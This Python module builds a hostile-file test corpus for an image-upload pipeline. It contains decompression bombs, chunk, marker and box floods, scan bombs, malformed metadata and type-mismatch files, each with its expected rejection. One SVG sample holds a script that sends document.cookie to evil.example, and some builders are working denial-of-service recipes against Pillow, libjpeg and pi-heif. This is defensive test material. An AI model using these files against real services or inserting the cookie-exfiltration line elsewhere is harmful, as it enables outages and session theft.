"""The hostile-file corpus: files an attacker, a broken camera or a careless client uploads, each
with what the client declares and the outcome the pipeline owes it.

Every file is generated (nothing binary is checked in, nothing is downloaded) and deterministic.
The tests push each one through the real processor path, and `mediakit loadtest` mixes them into
its traffic; both read the expected outcome from here, so there is one table to change.

Outcomes assume the type the bytes really are is enabled (`allowed_types`); `expected_for`
applies the allow-list, since a disabled type fails as `unsupported_type` whatever it is.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from PIL import Image
from PIL.TiffImagePlugin import IFDRational

from mediakit.corpus.samples import (
    NOT_AN_IMAGE_HTML,
    alpha_png,
    avif_bytes,
    camera_exif,
    camera_photo_avif,
    camera_photo_heic,
    camera_photo_jpeg,
    heic_bytes,
    pattern,
    png_chunk,
)
from mediakit.corpus.samples import bomb_png as samples_bomb_png
from runtime import mediatypes
from runtime.imaging import sniff_type
from runtime.settings import Settings

COMPLETED = "completed"
FAILED = "failed"

# 900 megapixels of 1-bit PNG: ~110 MB of zero rows that deflate to ~110 KB (deflate tops out
# near 1:1032). Decoded as Pillow would hold it ("1" mode, a byte per pixel) it is 900 MB.
BOMB_EDGE = 30_000
# A maker note this big is what some cameras really write; it must not bloat the record.
MAKER_NOTE_BYTES = 60_000
# The progressive scan bomb: under maxPixels (49 MP of 50), one 75-byte AC refinement scan repeated
# before EOI. libjpeg re-walks all 191,844 blocks for every copy (~33 ms each here, so 2,000
# copies decode for over a minute); the structural scan limit refuses it before Pillow starts.
SCAN_BOMB_EDGE = 7000
SCAN_BOMB_REPEATS = 2000
# Empty COM markers (4 bytes each) in a small JPEG; ~13 M of them fill a 50 MiB upload, which
# Pillow's marker loop takes seconds and ~1 GB to read (one list entry per comment).
COM_FLOOD_MARKERS = 20_000
# 4000x4000 canvas x 100 one-pixel frames = 1.6e9 animation pixels, over the 1e9 default.
FRAME_FLOOD_EDGE = 4000
FRAME_FLOOD_FRAMES = 100
# Ancillary chunks: twice the default maxMetadataSegments (1000).
CHUNK_FLOOD_CHUNKS = 2000
# zTXt chunks each inflating to just under Pillow's 1 MiB per-chunk cap: 9 of them are 9 MiB of
# text Pillow would inflate and keep, over the 8 MiB default maxMetadataBytes, in ~10 KB.
TEXT_FLOOD_CHUNKS = 9
# HEIF/AVIF: what a bogus ispe claims (3.6e9 pixels), how many empty boxes the box flood
# appends (twice the default maxMetadataSegments) and how deep the nesting bomb goes.
ISPE_BOMB_EDGE = 60_000
BOX_FLOOD_BOXES = 2000
BOX_NESTING = 40
# Marks bytes that only exist in the original: a derivative containing one leaked metadata.
LEAK_MARKERS: tuple[bytes, ...] = (b"Exif\x00\x00", b"Mediakit", b"Sample Cam", b"\xde\xad\xde\xad")
ZIP_MAGIC = b"PK\x03\x04"


@dataclass(frozen=True)
class HostileFile:
    """One corpus entry: bytes, what the client declares, and the outcome the pipeline owes."""

    name: str
    build: Callable[[], bytes]
    declared_type: str
    status: str
    code: str | None
    description: str
    # What the client declares as `size`; None means the true length. The API refuses size 0,
    # so the empty file is declared as 1 byte (what a client lying about its length sends).
    declared_size: int | None = None

    @property
    def data(self) -> bytes:
        return _cached(self.name, self.build)

    @property
    def size(self) -> int:
        return len(self.data) if self.declared_size is None else self.declared_size

    @property
    def real_type(self) -> str | None:
        """The type the magic bytes announce (None: not an image at all)."""
        return sniff_type(self.data)

    def expected_for(self, settings: Settings) -> tuple[str, str | None]:
        """(status, error code) the pipeline owes this file under `settings`."""
        if self.code in ("size_mismatch", "empty_file", "not_an_image"):
            return self.status, self.code
        real = self.real_type
        if real is not None and real not in settings.allowed_types:
            return FAILED, "unsupported_type"
        return self.status, self.code

    def presignable(self, settings: Settings) -> bool:
        """Whether the API accepts the create-upload request (type allowed, size positive)."""
        return mediatypes.canonical(self.declared_type) in settings.allowed_types and self.size > 0


_bytes: dict[str, bytes] = {}


def _cached(name: str, build: Callable[[], bytes]) -> bytes:
    if name not in _bytes:
        _bytes[name] = build()
    return _bytes[name]


# --- builders ------------------------------------------------------------------------------------


def _save(image: Image.Image, fmt: str, **options: object) -> bytes:
    buf = io.BytesIO()
    image.save(buf, fmt, **options)
    return buf.getvalue()


def one_pixel(fmt: str) -> bytes:
    return _save(Image.new("RGB", (1, 1), (250, 20, 20)), fmt)


def truncated_jpeg() -> bytes:
    photo = camera_photo_jpeg()
    return photo[: len(photo) * 3 // 5]


def bad_gps_jpeg() -> bytes:
    """Camera EXIF whose GPS rationals have zero denominators and out-of-range degrees."""
    exif = camera_exif(orientation=1)
    gps = exif.get_ifd(0x8825)
    gps[0x0002] = (IFDRational(52, 0), IFDRational(1, 1), IFDRational(0, 0))
    gps[0x0004] = (IFDRational(400, 1), IFDRational(0, 1), IFDRational(0, 1))
    gps[0x0006] = IFDRational(5, 0)
    return _save(Image.new("RGB", (120, 90), (40, 90, 160)), "JPEG", exif=exif)


def maker_note_jpeg() -> bytes:
    """Camera EXIF with GPS and a 60 KB maker note (the kind of blob that must stay behind)."""
    exif = camera_exif(orientation=1)
    exif.get_ifd(0x8769)[0x927C] = b"\xde\xad" * (MAKER_NOTE_BYTES // 2)
    return _save(Image.new("RGB", (160, 120), (90, 160, 40)), "JPEG", exif=exif)


def garbage_exif_jpeg() -> bytes:
    """An APP1 Exif segment that is a valid TIFF header followed by nonsense offsets."""
    good = _save(Image.new("RGB", (64, 48), (10, 10, 10)), "JPEG")
    garbage = b"Exif\x00\x00MM\x00*\x00\x00\xff\xf0" + b"\xff" * 64
    segment = b"\xff\xe1" + (len(garbage) + 2).to_bytes(2, "big") + garbage
    return good[:2] + segment + good[2:]


def cmyk_jpeg() -> bytes:
    return _save(Image.new("CMYK", (120, 80), (255, 0, 0, 0)), "JPEG", quality=95)


def png_16bit_transparent() -> bytes:
    """16-bit greyscale with a tRNS colour key (a 16-bit sample value marked transparent)."""
    image = Image.new("I;16", (64, 48), 32768)
    image.paste(1000, (0, 0, 16, 48))
    return _save(image, "PNG", transparency=1000)


def palette_png_transparent() -> bytes:
    image = Image.new("P", (64, 64), 0)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0, 0, 0] * 254)
    image.paste(1, (16, 16, 48, 48))
    return _save(image, "PNG", transparency=0)


def bomb_png(edge: int = BOMB_EDGE) -> bytes:
    """A valid 1-bit `edge` x `edge` PNG of black rows, built without holding the raw image.

    After a full flush deflate starts afresh, so every full chunk of rows compresses to the same
    bytes: compress one, repeat it, finish with the rest (the checksum still covers every row).
    """
    row = b"\x00" * (1 + (edge + 7) // 8)  # filter byte 0 + packed bits, all black
    rows_per_chunk = max(1, (1 << 20) // len(row))
    full, rest = divmod(edge, rows_per_chunk)
    chunk = row * rows_per_chunk
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = raw.compress(chunk) + raw.flush(zlib.Z_FULL_FLUSH) if full else b""
    tail = raw.compress(row * rest) + raw.flush(zlib.Z_FINISH)
    checksum = 1
    for _ in range(full):
        checksum = zlib.adler32(chunk, checksum)
    checksum = zlib.adler32(row * rest, checksum)
    idat = b"\x78\xda" + block * full + tail + struct.pack(">I", checksum)
    header = struct.pack(">IIBBBBB", edge, edge, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def text_chunk_bomb_png(where: str = "header") -> bytes:
    """A 1x1 PNG with a zTXt chunk inflating to 8 MB, before (`header`) or after (`trailer`)
    the pixel data. Pillow caps text chunks at 1 MB; one in the header is called a bomb."""
    png = one_pixel("PNG")
    chunk = png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (8 << 20), 9))
    at = png.index(b"IDAT") - 4 if where == "header" else png.index(b"IEND") - 4
    return png[:at] + chunk + png[at:]


def header_bomb(fmt: str) -> bytes:
    """A tiny valid file whose header claims an enormous canvas (JPEG SOF0, GIF logical screen,
    WebP VP8 frame header): refused from the header, the claimed pixels never exist."""
    if fmt == "JPEG":
        data = bytearray(one_pixel("JPEG"))
        sof = data.index(b"\xff\xc0")
        data[sof + 5 : sof + 9] = struct.pack(">HH", 65000, 65000)
    elif fmt == "GIF":
        data = bytearray(_save(Image.new("P", (1, 1)), "GIF"))
        data[6:10] = struct.pack("<HH", 65535, 65535)
    else:
        data = bytearray(_save(Image.new("RGB", (16, 16), (1, 2, 3)), "WEBP", quality=50))
        # RIFF header (12) + "VP8 " chunk header (8) + frame tag (3) + start code (3)
        data[26:30] = struct.pack("<HH", 0x3FFF, 0x3FFF)
    return bytes(data)


def _frames() -> list[Image.Image]:
    return [Image.new("RGB", (40, 30), c) for c in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]


def animated(fmt: str) -> bytes:
    first, *rest = _frames()
    return _save(first, fmt, save_all=True, append_images=rest, duration=100, loop=0)


def tiff() -> bytes:
    return _save(Image.new("RGB", (90, 70), (30, 160, 90)), "TIFF", compression="tiff_lzw")


def scan_bomb_jpeg(repeats: int = SCAN_BOMB_REPEATS, edge: int = SCAN_BOMB_EDGE) -> bytes:
    """A valid progressive greyscale JPEG whose last scan (an AC refinement of every block, 75
    bytes once Huffman-optimised for a flat image) is repeated `repeats` more times before EOI.

    libjpeg accepts a repeated scan with at most a warning and redoes it over the whole image.
    """
    jpeg = _save(Image.new("L", (edge, edge), 128), "JPEG", progressive=True, quality=50)
    last_scan = jpeg.rindex(b"\xff\xda")
    return jpeg[:-2] + jpeg[last_scan:-2] * repeats + jpeg[-2:]


def plte_less_png() -> bytes:
    """A 77-byte 36x36 palette PNG with no PLTE chunk: Pillow opens and decodes it, then asserts
    on the missing palette (`has_transparency_data`) when it is converted."""
    header = struct.pack(">IIBBBBB", 36, 36, 8, 3, 0, 0, 0)
    rows = (b"\x00" + b"\x00" * 36) * 36
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows, 9))
        + png_chunk(b"IEND", b"")
    )


def float_strip_offsets_tiff() -> bytes:
    """An uncompressed TIFF whose StripOffsets tag is typed FLOAT: Pillow seeks to a float and
    raises TypeError from load()."""
    data = bytearray(_save(Image.new("RGB", (16, 16), (30, 160, 90)), "TIFF"))
    ifd = int.from_bytes(data[4:8], "little")  # Pillow writes little-endian ("II")
    for entry in range(int.from_bytes(data[ifd : ifd + 2], "little")):
        at = ifd + 2 + 12 * entry
        if int.from_bytes(data[at : at + 2], "little") == 273:  # StripOffsets
            data[at + 2 : at + 4] = (11).to_bytes(2, "little")  # FLOAT
    return bytes(data)


def com_flood_jpeg(markers: int = COM_FLOOD_MARKERS, edge: int = 64) -> bytes:
    """A small valid JPEG with `markers` empty COM segments right after SOI."""
    jpeg = _save(Image.new("RGB", (edge, edge), (120, 30, 200)), "JPEG", quality=80)
    return jpeg[:2] + b"\xff\xfe\x00\x02" * markers + jpeg[2:]


def chunk_flood_png(chunks: int = CHUNK_FLOOD_CHUNKS) -> bytes:
    """A 1x1 PNG with `chunks` tiny tEXt chunks before its pixels (Pillow parses each one)."""
    png = one_pixel("PNG")
    at = png.index(b"IDAT") - 4
    return png[:at] + png_chunk(b"tEXt", b"k\x00v") * chunks + png[at:]


def plte_flood_png(chunks: int = 2_000) -> bytes:
    """A 64x64 palette PNG whose PLTE chunk is repeated `chunks` times: Pillow parses every copy
    (at 3.5 M copies, 50 MiB, ~7 s of CPU for a thumbnail)."""
    png = _save(Image.new("P", (64, 64), 3), "PNG")
    at = png.index(b"PLTE") - 4
    length = int.from_bytes(png[at : at + 4], "big")
    plte = png[at : at + 12 + length]
    return png[:at] + plte * chunks + png[at + 12 + length :]


def text_flood_png(chunks: int = TEXT_FLOOD_CHUNKS) -> bytes:
    """A 1x1 PNG with `chunks` zTXt chunks, each inflating to 1 MiB less a few bytes."""
    png = one_pixel("PNG")
    at = png.index(b"IDAT") - 4
    text = zlib.compress(b"A" * ((1 << 20) - 64), 9)
    flood = b"".join(png_chunk(b"zTXt", b"Comment%d\x00\x00" % i + text) for i in range(chunks))
    return png[:at] + flood + png[at:]


def frame_flood_gif(frames: int = FRAME_FLOOD_FRAMES, edge: int = FRAME_FLOOD_EDGE) -> bytes:
    """An animated GIF of `frames` one-pixel frames on an `edge` x `edge` canvas: a few bytes a
    frame, each one a full-canvas composite for whoever plays it."""
    screen = b"GIF89a" + struct.pack("<HHBBB", edge, edge, 0x80, 0, 0) + b"\x00\x00\x00" * 2
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    frame = (
        b"\x21\xf9\x04\x00\x0a\x00\x00\x00"  # graphic control: 100 ms
        + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)  # image descriptor: 1x1 at 0,0
        + b"\x02\x02\x44\x01\x00"  # LZW minimum code size 2, one pixel of index 0
    )  # fmt: skip
    return screen + loop + frame * frames + b"\x3b"


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<script type="text/javascript">fetch("https://evil.example/"+document.cookie)</script>'
    b'<rect width="100" height="100" fill="red"/></svg>\n'
)


# --- HEIF / AVIF (ISOBMFF boxes) -----------------------------------------------------------------


def iso_box(kind: bytes, payload: bytes = b"") -> bytes:
    """One ISOBMFF box: 32-bit size, type, payload."""
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def small_heic() -> bytes:
    return heic_bytes(pattern((64, 48)), quality=60)


def small_avif() -> bytes:
    return avif_bytes(pattern((64, 48)), quality=60)


def truncated_heic() -> bytes:
    """The phone HEIC cut off after 60% of its bytes (inside its coded image data)."""
    photo = camera_photo_heic()
    return photo[: len(photo) * 3 // 5]


def ispe_bomb(fmt: str) -> bytes:
    """A small valid HEIC/AVIF whose image spatial extents (ispe) all claim 60000x60000."""
    data = bytearray(small_heic() if fmt == "HEIC" else small_avif())
    at = data.find(b"ispe")
    while at >= 0:
        # type, version/flags, then width and height
        data[at + 8 : at + 16] = struct.pack(">II", ISPE_BOMB_EDGE, ISPE_BOMB_EDGE)
        at = data.find(b"ispe", at + 4)
    return bytes(data)


def box_flood_heic(boxes: int = BOX_FLOOD_BOXES) -> bytes:
    """A valid HEIC followed by thousands of empty top-level `free` boxes."""
    return small_heic() + iso_box(b"free") * boxes


def box_nesting_avif(depth: int = BOX_NESTING) -> bytes:
    """A valid AVIF followed by `moov` boxes nested `depth` deep (every parser recursion)."""
    nested = b""
    for _ in range(depth):
        nested = iso_box(b"moov", nested)
    return small_avif() + nested


def huge_box_avif() -> bytes:
    """A valid AVIF with a trailing box whose 64-bit size claims 4 EiB."""
    return small_avif() + struct.pack(">I4sQ", 1, b"free", 1 << 62)


def iinf_overclaim_heic() -> bytes:
    """A HEIC whose item information box claims 65535 items in a few dozen bytes."""
    data = bytearray(small_heic())
    at = data.index(b"iinf")
    if data[at + 4] == 0:
        data[at + 8 : at + 10] = b"\xff\xff"
    else:
        data[at + 8 : at + 12] = b"\x00\xff\xff\xff"
    return bytes(data)


def bad_item_type_heic() -> bytes:
    """The EXIF HEIC with its Exif item's type made non-ASCII ("E\\xc7if"): the long mutation
    fuzz found a one-bit flip there ("E\\xf8if") that segfaults pi-heif 1.4.0 as it opens the
    file."""
    data = bytearray(heic_bytes(pattern((64, 48)), quality=60, exif=camera_exif()))
    at = data.index(b"Exif")  # the infe's item type comes before the payload's Exif header
    data[at + 1] ^= 0xBF
    return bytes(data)


def bad_content_type_heic() -> bytes:
    """A HEIC with XMP whose item content type holds a byte that is not UTF-8 (a crash too)."""
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>'
    data = bytearray(heic_bytes(pattern((64, 48)), quality=60, xmp=xmp))
    at = data.index(b"application/rdf+xml")
    data[at + 3] = 0xF8
    return bytes(data)


def heif_sequence_without_still() -> bytes:
    """A HEIF image sequence (msf1/hevs brands) with a movie box and no still image (no meta)."""
    ftyp = iso_box(b"ftyp", b"msf1" + b"\x00" * 4 + b"msf1iso8hevs")
    mvhd = iso_box(b"mvhd", b"\x00" * 100)
    return ftyp + iso_box(b"moov", mvhd) + iso_box(b"mdat", b"\x00" * 64)


def animated_avif() -> bytes:
    frames = [pattern((64, 48)).rotate(angle) for angle in (0, 90, 180)]
    return avif_bytes(frames[0], quality=50, save_all=True, append_images=frames[1:], duration=80)


def polyglot_jpeg_zip() -> bytes:
    """A valid JPEG with a ZIP archive appended: image viewers and unzip both accept it."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    jpeg = _save(Image.new("RGB", (64, 48), (200, 200, 30)), "JPEG")
    return jpeg + buf.getvalue()


# --- the corpus ----------------------------------------------------------------------------------

CORPUS: tuple[HostileFile, ...] = (
    HostileFile(
        "zero-bytes.jpg", lambda: b"", "image/jpeg", FAILED, "size_mismatch",
        "empty object declared as 1 byte (the API refuses size 0 with 400 invalid_field)",
        declared_size=1,
    ),
    HostileFile("one-pixel.jpg", lambda: one_pixel("JPEG"), "image/jpeg", COMPLETED, None,
                "1x1 JPEG: derivatives are 1x1, never upscaled"),
    HostileFile("one-pixel.png", lambda: one_pixel("PNG"), "image/png", COMPLETED, None,
                "1x1 PNG"),
    HostileFile("truncated.jpg", truncated_jpeg, "image/jpeg", FAILED, "truncated",
                "camera JPEG cut off after 60% of its bytes"),
    HostileFile("bad-gps-exif.jpg", bad_gps_jpeg, "image/jpeg", COMPLETED, None,
                "GPS rationals with zero denominators and 400 degrees: GPS skipped"),
    HostileFile("huge-maker-note.jpg", maker_note_jpeg, "image/jpeg", COMPLETED, None,
                "60 KB maker note next to camera EXIF and GPS: never read, never copied"),
    HostileFile("garbage-exif.jpg", garbage_exif_jpeg, "image/jpeg", COMPLETED, None,
                "APP1 Exif segment with nonsense offsets: empty EXIF summary"),
    HostileFile("camera-gps.jpg", camera_photo_jpeg, "image/jpeg", COMPLETED, None,
                "camera EXIF, GPS and Orientation=6: rotated, GPS only for allowed tenants"),
    HostileFile("cmyk.jpg", cmyk_jpeg, "image/jpeg", COMPLETED, None,
                "CMYK JPEG: derivatives are RGB"),
    HostileFile("grey16-trns.png", png_16bit_transparent, "image/png", COMPLETED, None,
                "16-bit greyscale PNG with a transparent colour key"),
    HostileFile("palette-trns.png", palette_png_transparent, "image/png", COMPLETED, None,
                "palette PNG with a transparent index"),
    HostileFile("alpha.png", lambda: alpha_png(size=(96, 64)), "image/png", COMPLETED, None,
                "RGBA PNG with soft alpha"),
    HostileFile("bomb-30000.png", bomb_png, "image/png", FAILED, "decompression_bomb",
                f"{BOMB_EDGE}x{BOMB_EDGE} 1-bit PNG in ~110 KB: refused from its header"),
    HostileFile("bomb-8000.png", samples_bomb_png, "image/png", FAILED, "decompression_bomb",
                "8000x8000 PNG (64 MP): under Pillow's own limit, over the maxPixels setting"),
    HostileFile("bomb-header.jpg", lambda: header_bomb("JPEG"), "image/jpeg", FAILED,
                "decompression_bomb", "633-byte JPEG whose SOF0 claims 65000x65000"),
    HostileFile("bomb-header.gif", lambda: header_bomb("GIF"), "image/gif", FAILED,
                "decompression_bomb", "37-byte GIF whose logical screen is 65535x65535"),
    HostileFile("bomb-header.webp", lambda: header_bomb("WEBP"), "image/webp", FAILED,
                "decompression_bomb", "44-byte WebP whose VP8 header claims 16383x16383"),
    HostileFile("ztxt-bomb.png", text_chunk_bomb_png, "image/png", FAILED,
                "decompression_bomb", "1x1 PNG with a zTXt chunk inflating to 8 MB"),
    HostileFile("ztxt-bomb-trailer.png", lambda: text_chunk_bomb_png("trailer"), "image/png",
                COMPLETED, None, "the same chunk after the pixel data: never inflated (the "
                "pixels are all we read), so the upload completes without it"),
    HostileFile("animated.gif", lambda: animated("GIF"), "image/gif", COMPLETED, None,
                "three-frame GIF: first frame only (when image/gif is enabled)"),
    HostileFile("animated.webp", lambda: animated("WEBP"), "image/webp", COMPLETED, None,
                "three-frame WebP: first frame only"),
    HostileFile("lzw.tiff", tiff, "image/tiff", COMPLETED, None,
                "LZW TIFF (when image/tiff is enabled)"),
    HostileFile("scan-bomb.jpg", scan_bomb_jpeg, "image/jpeg", FAILED, "too_many_scans",
                f"{SCAN_BOMB_EDGE}x{SCAN_BOMB_EDGE} progressive JPEG (342 KB) with one 75-byte "
                f"AC scan repeated {SCAN_BOMB_REPEATS} times: over a minute to decode, refused "
                "from its markers"),
    HostileFile("com-flood.jpg", com_flood_jpeg, "image/jpeg", FAILED, "too_many_segments",
                f"64x64 JPEG behind {COM_FLOOD_MARKERS} empty COM markers (the 50 MiB version "
                "has 13 M: seconds and a gigabyte in Pillow's marker loop)"),
    HostileFile("no-plte.png", plte_less_png, "image/png", FAILED, "corrupt_image",
                "77-byte palette PNG without its PLTE chunk: Pillow raises AssertionError"),
    HostileFile("float-strip-offsets.tiff", float_strip_offsets_tiff, "image/tiff", FAILED,
                "corrupt_image", "TIFF whose StripOffsets tag is FLOAT: Pillow raises TypeError "
                "(when image/tiff is enabled)"),
    HostileFile("chunk-flood.png", chunk_flood_png, "image/png", FAILED, "too_many_segments",
                f"1x1 PNG with {CHUNK_FLOOD_CHUNKS} tEXt chunks before its pixels"),
    HostileFile("plte-flood.png", plte_flood_png, "image/png", FAILED, "corrupt_image",
                "64x64 palette PNG with its PLTE chunk repeated 2,000 times"),
    HostileFile("ztxt-flood.png", text_flood_png, "image/png", FAILED, "metadata_too_large",
                f"1x1 PNG with {TEXT_FLOOD_CHUNKS} zTXt chunks of 1 MiB each once inflated "
                "(each under Pillow's per-chunk cap) in ~10 KB"),
    HostileFile("frame-flood.gif", frame_flood_gif, "image/gif", FAILED, "animation_too_large",
                f"{FRAME_FLOOD_FRAMES} one-pixel frames on a {FRAME_FLOOD_EDGE}x"
                f"{FRAME_FLOOD_EDGE} canvas: 1.6e9 animation pixels in 2 KB (when image/gif "
                "is enabled)"),
    HostileFile("page.html.jpg", lambda: NOT_AN_IMAGE_HTML, "image/jpeg", FAILED, "not_an_image",
                "HTML with a script, named .jpg and declared image/jpeg"),
    HostileFile("script.svg.jpg", lambda: SVG_WITH_SCRIPT, "image/jpeg", FAILED, "not_an_image",
                "SVG with a script element, named .jpg"),
    HostileFile("png-as-jpeg.jpg", lambda: alpha_png(size=(64, 48)), "image/jpeg", FAILED,
                "type_mismatch", "a real PNG declared as image/jpeg"),
    HostileFile("polyglot-zip.jpg", polyglot_jpeg_zip, "image/jpeg", COMPLETED, None,
                "valid JPEG + appended ZIP: the JPEG is processed, derivatives are re-encoded "
                "so the ZIP never reaches a served file"),
    HostileFile("phone.heic", camera_photo_heic, "image/heic", COMPLETED, None,
                "HEIC with irot and EXIF Orientation=6 both, camera EXIF and GPS: rotated once"),
    HostileFile("phone-as-heif.heic", camera_photo_heic, "image/heif", COMPLETED, None,
                "an HEVC HEIC declared image/heif (Android's name): one family, accepted"),
    HostileFile("burst.heic", small_heic, "image/heic-sequence", COMPLETED, None,
                "declared image/heic-sequence (an iOS alias): read as image/heic"),
    HostileFile("camera.avif", camera_photo_avif, "image/avif", COMPLETED, None,
                "AVIF with irot and EXIF Orientation=6: rotated once"),
    HostileFile("animated.avif", animated_avif, "image/avif", COMPLETED, None,
                "three-frame AVIF sequence: first frame only"),
    HostileFile("truncated.heic", truncated_heic, "image/heic", FAILED, "truncated",
                "phone HEIC cut off after 60% of its bytes"),
    HostileFile("ispe-bomb.heic", lambda: ispe_bomb("HEIC"), "image/heic", FAILED,
                "decompression_bomb", f"64x48 HEIC whose ispe boxes claim {ISPE_BOMB_EDGE}x"
                f"{ISPE_BOMB_EDGE}: refused from the container, libheif never runs"),
    HostileFile("ispe-bomb.avif", lambda: ispe_bomb("AVIF"), "image/avif", FAILED,
                "decompression_bomb", f"64x48 AVIF whose ispe claims {ISPE_BOMB_EDGE}x"
                f"{ISPE_BOMB_EDGE}"),
    HostileFile("box-flood.heic", box_flood_heic, "image/heic", FAILED, "too_many_segments",
                f"valid HEIC followed by {BOX_FLOOD_BOXES} empty boxes"),
    HostileFile("box-nesting.avif", box_nesting_avif, "image/avif", FAILED, "too_many_segments",
                f"valid AVIF followed by boxes nested {BOX_NESTING} deep"),
    HostileFile("huge-box.avif", huge_box_avif, "image/avif", FAILED, "truncated",
                "valid AVIF with a trailing box whose 64-bit size claims 4 EiB"),
    HostileFile("iinf-overclaim.heic", iinf_overclaim_heic, "image/heic", FAILED,
                "corrupt_image", "HEIC whose iinf claims 65535 items in its few bytes"),
    HostileFile("bad-item-type.heic", bad_item_type_heic, "image/heic", FAILED, "corrupt_image",
                "Exif item type with one bit flipped (not a four-character code): crashes "
                "pi-heif 1.4.0, refused from the boxes"),
    HostileFile("bad-content-type.heic", bad_content_type_heic, "image/heic", FAILED,
                "corrupt_image", "XMP item whose content type is not UTF-8: crashes pi-heif "
                "1.4.0, refused from the boxes"),
    HostileFile("sequence-no-still.heif", heif_sequence_without_still, "image/heif-sequence",
                FAILED, "unsupported_type", "HEIF image sequence (moov) without a still image"),
    HostileFile("heic-as-avif.avif", small_heic, "image/avif", FAILED, "type_mismatch",
                "a real HEIC declared image/avif"),
    HostileFile("avif-as-jpeg.jpg", small_avif, "image/jpeg", FAILED, "type_mismatch",
                "a real AVIF declared image/jpeg"),
    HostileFile("avif-as-heic.heic", small_avif, "image/heic", FAILED, "type_mismatch",
                "a real AVIF declared image/heic (AVIF is HEIF too, but not the HEIC family)"),
)  # fmt: skip

BY_NAME: dict[str, HostileFile] = {f.name: f for f in CORPUS}


def write_corpus(out_dir: Path) -> list[tuple[HostileFile, Path]]:
    """Write every corpus file into `out_dir` (for looking at them, or a manual `upload`)."""
    out_dir.mkdir(parents=True, exist_ok=True)
    written = []
    for entry in CORPUS:
        path = out_dir / entry.name
        path.write_bytes(entry.data)
        written.append((entry, path))
    return written


@cache
def valid_jpeg(seed: int, edge: int = 96) -> bytes:
    """A small valid JPEG that differs per seed (load traffic that is not all the same bytes)."""
    shade = (seed * 37 % 256, seed * 91 % 256, seed * 53 % 256)
    image = Image.new("RGB", (edge + seed % 17, edge - seed % 13), shade)
    image.paste((255 - shade[0], 80, 200), (4, 4, 20 + seed % 30, 20 + seed % 25))
    return _save(image, "JPEG", quality=80)
